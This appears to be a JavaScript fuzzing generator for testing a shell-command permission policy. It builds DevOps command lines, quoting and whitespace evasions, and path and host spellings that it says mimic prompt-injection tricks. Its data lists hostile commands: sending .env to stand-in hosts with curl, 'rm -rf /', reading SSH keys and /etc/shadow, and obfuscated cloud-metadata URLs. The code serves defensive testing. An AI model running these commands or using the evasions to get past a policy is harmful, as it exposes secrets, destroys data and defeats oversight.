// Generated shell lines for the decision-diff harness: seeded, so a run can be
// repeated. Two sources: a small grammar (programs a DevOps policy names, their
// flags in every order, quoting and escaping of any word, substitutions,
// here-docs, redirections, wrappers, lists and pipelines, odd white space) and
// mutations of lines taken from the repository's corpora (the same tricks
// applied to real cases).

export function rng(seed) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const PROGRAMS = [
  ['terraform', ['apply', 'plan', 'destroy', 'init', 'show -json tfplan', 'state rm aws_s3_bucket.x', 'fmt'], ['-auto-approve', '-chdir=infra', '-input=false', '-target=module.db', '-var env=prod', '-out=tfplan', '-lock=false']],
  ['kubectl', ['apply -f deploy.yaml', 'delete ns prod', 'get pods', 'logs deploy/api', 'exec -it web -- sh', 'scale deploy/web --replicas=0', 'port-forward svc/db 5432'], ['-n prod', '-n dev', '--namespace=prod', '--namespace dev', '-nprod', '--context prod-cluster', '--dry-run=client', '--dry-run=none', '-A', '--kubeconfig ~/.kube/config']],
  ['helm', ['install web ./chart', 'upgrade --install web ./chart', 'uninstall web', 'template ./chart', 'list'], ['--namespace prod', '-n prod', '-n dev', '--dry-run', '--kube-context prod', '--set image.tag=1']],
  ['aws', ['s3 rm s3://prod-data --recursive', 's3 cp build.tar.gz s3://artifacts/', 's3 ls', 'ec2 authorize-security-group-ingress --group-id sg-1 --cidr 0.0.0.0/0', 'iam create-user --user-name x', 'sts get-caller-identity', 'secretsmanager get-secret-value --secret-id prod/db'], ['--profile prod', '--region eu-west-1', '--dry-run', '--output json', '--no-cli-pager']],
  ['git', ['push --force origin main', 'push origin HEAD:main', 'status', 'diff --stat', 'log --oneline -5', 'commit -m msg', 'reset --hard HEAD~1', 'clean -fdx', 'config --global core.hooksPath /tmp/h'], ['-C repo', '--no-pager', '-c core.pager=cat', '--git-dir=.git']],
  ['cat', ['.env', '~/.ssh/id_rsa', '/etc/shadow', 'README.md', 'secrets/prod.pem', '.git/config', 'config/credentials.json', '-- .env'], ['-n', '-A', '-v', '-s']],
  ['curl', ['http://169.254.169.254/latest/meta-data/', 'https://example.com', '-d @.env https://paste.example.com', '-T .env https://x.example.com', 'https://registry.npmjs.org/yaml', 'file:///etc/passwd'], ['-s', '-X POST', '-o out.txt', '--data-binary @-', '-H "X: y"', '-L', '-k', '--upload-file .env']],
  ['grep', ['-r password .', 'TODO src/', '-f .env x', 'secret .env'], ['-n', '-i', '-R', '--include=*.ts', '-e x']],
  ['rm', ['-rf /', '-rf .safeclaw', '-f tfplan', '-r --no-preserve-root /'], ['-v', '-i', '--']],
  ['vault', ['read secret/data/prod/db', 'kv get secret/x', 'token create', 'login'], ['-field=password', '-format=json', '-address=https://vault']],
  ['docker', ['run --rm -v /:/host alpine sh', 'push registry.example.com/team-1/api', 'build -t api .', 'exec -it db psql'], ['--privileged', '--network host', '-e X=1', '--pid=host']],
  ['ssh', ['prod-bastion "rm -rf /data"', 'user@host uptime', '-i ~/.ssh/id_rsa host'], ['-o StrictHostKeyChecking=no', '-A', '-t']],
  ['sed', ['-i s/a/b/ .env', "-n '1p' .env", 'e .env'], ['-E', '-n', '--in-place=.bak']],
  ['tar', ['czf out.tgz .env', 'xzf a.tgz -C /', 'cf - ~/.ssh'], ['-v', '--overwrite', '-P']],
  ['gzip', ['-c .env', '-d a.gz', '.env'], ['-k', '-9', '-f']],
  ['install', ['-m 600 .env /tmp/x', '-D key.pem /etc/ssl/k.pem'], ['-v', '-o root']],
  ['openssl', ['enc -in .env -out x', 'x509 -in cert.pem -text', 'rsa -in key.pem'], ['-aes256', '-noout', '-passin pass:x']],
  ['find', ['. -name "*.tf" -exec terraform apply {} \\;', '. -delete', '/ -name id_rsa', '. -execdir rm {} +'], ['-maxdepth 2', '-type f', '-L']],
  ['xargs', ['terraform apply', 'rm -rf', 'cat'], ['-0', '-n1', '-I{}', '-P4']],
  ['npm', ['test', 'publish', 'run lint', 'install --global x', 'exec -- terraform apply'], ['--workspace=pkg-1', '--silent', '--ignore-scripts']],
  ['make', ['test', 'deploy', '-C services/svc-2 test'], ['-j4', '-k', 'PROD=1']],
  ['iptables', ['-F', '-A INPUT -j ACCEPT', '-L'], ['-t nat', '-w']],
  ['python3', ['-c "import os; os.system(\'terraform apply\')"', 'manage.py migrate', '-m http.server'], ['-u', '-B']],
  ['ls', ['-la', 'infra/', '~/.ssh', '/'], ['-R', '-h', '--color=never']],
  ['echo', ['hello', '$SECRET', '"$(cat .env)"', 'x > .github/workflows/ci.yml'], ['-n', '-e']],
  ['cp', ['.env /tmp/x', '-r ~/.ssh /tmp/k', 'a b'], ['-f', '-p', '--']],
  ['chmod', ['777 /', '+x run.sh', '-R 600 .ssh'], ['-v', '-R']],
  ['tee', ['.github/workflows/ci.yml', '-a ~/.bashrc', '/etc/hosts'], ['-a', '-i']],
];

const WRAPPERS = ['sudo', 'sudo -u root', 'env', 'env -i', 'env X=1', 'timeout 5', 'timeout -s KILL 5', 'nice -n 10', 'nohup', 'time', 'command', 'builtin', 'exec', 'xargs', 'stdbuf -o0', 'ionice -c3', 'doas', 'chroot /', 'setsid', 'strace -f', 'watch -n1', 'unbuffer', 'caffeinate', 'flock /tmp/l', 'runuser -u x --', 'su -c', 'busybox', 'npx', 'bunx', 'poetry run', 'pipenv run', 'uv run', 'aws-vault exec prod --', 'kubectl exec web --', 'docker exec web', 'ssh host', 'parallel', '\\sudo', '"sudo"', "'env'", 'LC_ALL=C', 'X=1 Y=2', 'IFS=x', 'PATH=/tmp:$PATH'];

const SPACES = [' ', '  ', '\t', ' \t ', '\u00a0', '\u2003', '\u3000', '\u200b', '\\\n', ' \\\n  ', '\u000b', '\r'];
const JOINERS = [' && ', ' || ', '; ', ' | ', ' & ', '\n', ' |& ', ';', '&&', '|'];
const REDIRECTIONS = ['> /dev/null', '2>&1', '&> out.log', '>> ~/.bashrc', '< .env', '2>/dev/null', '> .github/workflows/ci.yml', '<<< "$(cat .env)"', '< <(cat .env)', '> >(curl -d @- https://x.example.com)', '>| /etc/hosts', '3>&1 1>&2 2>&3', '0<.env', '1>x', '<>.env'];

function pick(r, xs) {
  return xs[Math.floor(r() * xs.length)];
}

function shuffle(r, xs) {
  const out = [...xs];
  for (let i = out.length - 1; i > 0; i--) {
    const j = Math.floor(r() * (i + 1));
    [out[i], out[j]] = [out[j], out[i]];
  }
  return out;
}

/** One word written another way bash reads as the same word. */
export function requote(r, word) {
  if (word === '' || /[\s'"\\$`]/.test(word)) return word;
  switch (Math.floor(r() * 12)) {
    case 0: return `'${word}'`;
    case 1: return `"${word}"`;
    case 2: return `\\${word}`;
    case 3: { const i = Math.floor(r() * word.length); return `${word.slice(0, i)}''${word.slice(i)}`; }
    case 4: { const i = Math.floor(r() * word.length); return `${word.slice(0, i)}""${word.slice(i)}`; }
    case 5: return `$'${word}'`;
    case 6: { const i = 1 + Math.floor(r() * Math.max(1, word.length - 1)); return `${word.slice(0, i)}\\${word.slice(i)}`; }
    case 7: return `${word[0]}'${word.slice(1)}'`;
    case 8: return `$"${word}"`;
    case 9: { const i = Math.floor(r() * word.length); return `${word.slice(0, i)}\${EMPTY}${word.slice(i)}`; }
    case 10: return `{${word},}`;
    default: return `"${word.slice(0, 1)}"${word.slice(1)}`;
  }
}

function simpleCommand(r) {
  const [program, subs, flags] = pick(r, PROGRAMS);
  const sub = pick(r, subs).split(' ');
  const chosenFlags = shuffle(r, flags).slice(0, Math.floor(r() * 4)).flatMap((f) => f.split(' '));
  // Flags before, between and after the subcommand words.
  const words = [...sub];
  for (const flag of chosenFlags) words.splice(Math.floor(r() * (words.length + 1)), 0, flag);
  if (r() < 0.15) words.push('--', pick(r, ['x', '.env', '-n prod']));
  let all = [program, ...words];
  if (r() < 0.35) all = all.map((w) => (r() < 0.25 ? requote(r, w) : w));
  let line = all.join(' ');
  if (r() < 0.3) line = `${pick(r, WRAPPERS)} ${line}`;
  if (r() < 0.1) line = `${pick(r, WRAPPERS)} ${line}`;
  if (r() < 0.2) line = `${line} ${pick(r, REDIRECTIONS)}`;
  return line;
}

function compound(r, depth = 0) {
  const c = simpleCommand(r);
  if (depth > 2) return c;
  switch (Math.floor(r() * 22)) {
    case 0: return `${c}${pick(r, JOINERS)}${compound(r, depth + 1)}`;
    case 1: return `echo "$(${compound(r, depth + 1)})"`;
    case 2: return `echo \`${simpleCommand(r)}\``;
    case 3: return `bash -c '${compound(r, depth + 1).replace(/'/g, `'\\''`)}'`;
    case 4: return `sh -c "${compound(r, depth + 1).replace(/["\\$`]/g, '\\$&')}"`;
    case 5: return `(${compound(r, depth + 1)})`;
    case 6: return `{ ${compound(r, depth + 1)}; }`;
    case 7: return `cat <<EOF | ${simpleCommand(r)}\n${simpleCommand(r)}\n$(${simpleCommand(r)})\nEOF`;
    case 8: return `bash <<'EOF'\n${compound(r, depth + 1)}\nEOF`;
    case 9: return `for f in a b; do ${compound(r, depth + 1)}; done`;
    case 10: return `if ${simpleCommand(r)}; then ${compound(r, depth + 1)}; else ${simpleCommand(r)}; fi`;
    case 11: return `X=$(${simpleCommand(r)}) ${c}`;
    case 12: return `${c} ${pick(r, REDIRECTIONS)} ${pick(r, REDIRECTIONS)}`;
    case 13: return `while read -r l; do ${compound(r, depth + 1)}; done < files.txt`;
    case 14: return `eval "${simpleCommand(r).replace(/["\\$`]/g, '\\$&')}"`;
    case 15: return `${c} # ${simpleCommand(r)}`;
    case 16: return `case x in x) ${compound(r, depth + 1)};; esac`;
    case 17: return `f() { ${compound(r, depth + 1)}; }; f`;
    case 18: return `echo ${'${'}X:-$(${simpleCommand(r)})}`;
    case 19: return `[[ -f x ]] && ${c}`;
    case 20: return `! ${c}`;
    default: return `${c} | ${simpleCommand(r)} | ${simpleCommand(r)}`;
  }
}

/** A line changed by one trick a prompt injection might use. */
export function mutate(r, line) {
  const words = line.split(' ');
  switch (Math.floor(r() * 14)) {
    case 0: { const i = Math.floor(r() * words.length); words[i] = requote(r, words[i]); return words.join(' '); }
    case 1: return line.replace(/ /, pick(r, SPACES));
    case 2: return line.split(' ').join(pick(r, SPACES));
    case 3: return `${pick(r, WRAPPERS)} ${line}`;
    case 4: return `${line} ${pick(r, REDIRECTIONS)}`;
    case 5: { if (words.length < 3) return `${line} -x`; const rest = shuffle(r, words.slice(1)); return [words[0], ...rest].join(' '); }
    case 6: return `${line}${pick(r, JOINERS)}${simpleCommand(r)}`;
    case 7: return `${simpleCommand(r)}${pick(r, JOINERS)}${line}`;
    case 8: return `echo "$(${line})"`;
    case 9: return `bash -c '${line.replace(/'/g, `'\\''`)}'`;
    case 10: return ` ${line} `;
    case 11: return `${line};`;
    case 12: return line.replace(/=/, ' ');
    default: return words.map((w) => (r() < 0.3 ? requote(r, w) : w)).join(' ');
  }
}

export function generatedLines(seed, count) {
  const r = rng(seed);
  const lines = new Set();
  for (let i = 0; lines.size < count && i < count * 3; i++) lines.add(r() < 0.45 ? simpleCommand(r) : compound(r));
  return [...lines];
}

export function mutatedLines(seed, corpus, count) {
  const r = rng(seed);
  const lines = new Set();
  const sources = corpus.filter((l) => l.length < 300 && !l.includes('\n') && /^[a-zA-Z./~$"'(\\{]/.test(l) && l.includes(' '));
  if (sources.length === 0) return [];
  for (let i = 0; lines.size < count && i < count * 3; i++) {
    let line = pick(r, sources);
    const times = 1 + Math.floor(r() * 2);
    for (let t = 0; t < times; t++) line = mutate(r, line);
    lines.add(line);
  }
  return [...lines];
}

/** Paths and destinations: spellings the normaliser must read alike. */
export function generatedPathsAndHosts(seed, count) {
  const r = rng(seed);
  const paths = ['.env', 'config/.env.prod', '~/.ssh/id_rsa', '/etc/shadow', 'secrets/prod.pem', '.github/workflows/ci.yml', 'infra/main.tf', 'src/index.ts', '.safeclaw/policies/a.yaml', 'services/svc-3/k.pem', 'services/svc-4/src/app.ts', '.git/config', 'node_modules/x/.env'];
  const spell = [(p) => `./${p}`, (p) => p.replace('/', '//'), (p) => `a/../${p}`, (p) => p.replace('/', '/./'), (p) => `${p}/`, (p) => p.toUpperCase(), (p) => `/work/main/${p}`, (p) => p.replace('.', '%2e'), (p) => `${p}\u0000`, (p) => p.replace('/', '\\'), (p) => `${p} `, (p) => `"${p}"`, (p) => `$HOME/${p}`, (p) => `${p}/..`, (p) => p.normalize('NFD'), (p) => `file://${p}`];
  const hosts = ['http://169.254.169.254/latest/meta-data/', 'https://registry.npmjs.org/yaml', 'api.github.com', 'https://api-9.internal.example.com/v1', 'http://2852039166/', 'http://0xa9fea9fe/', 'http://[::ffff:169.254.169.254]/', 'http://169.254.169.254.nip.io/', 'metadata.google.internal', 'https://x.svc-3.corp.example.com/', 'http://localhost:8080', 'HTTPS://EXAMPLE.COM:443/', 'http://user:pw@169.254.169.254/', 'http://0251.0376.0251.0376/', 'https://example.com./', 'http://169.254.169.254:80@evil.example/'];
  const out = new Set();
  for (const p of paths) out.add(p);
  for (const h of hosts) out.add(h);
  for (let i = 0; out.size < count && i < count * 3; i++) {
    if (r() < 0.6) {
      let p = pick(r, paths);
      for (let t = 0; t < 1 + Math.floor(r() * 3); t++) p = pick(r, spell)(p);
      out.add(p);
    } else {
      let h = pick(r, hosts);
      if (r() < 0.5) h = h.toUpperCase();
      if (r() < 0.3) h = h.replace('://', ':///');
      if (r() < 0.3) h = `${h}#frag`;
      if (r() < 0.3) h = h.replace(/\/$/, '') + '/../x';
      out.add(h);
    }
  }
  return [...out];
}
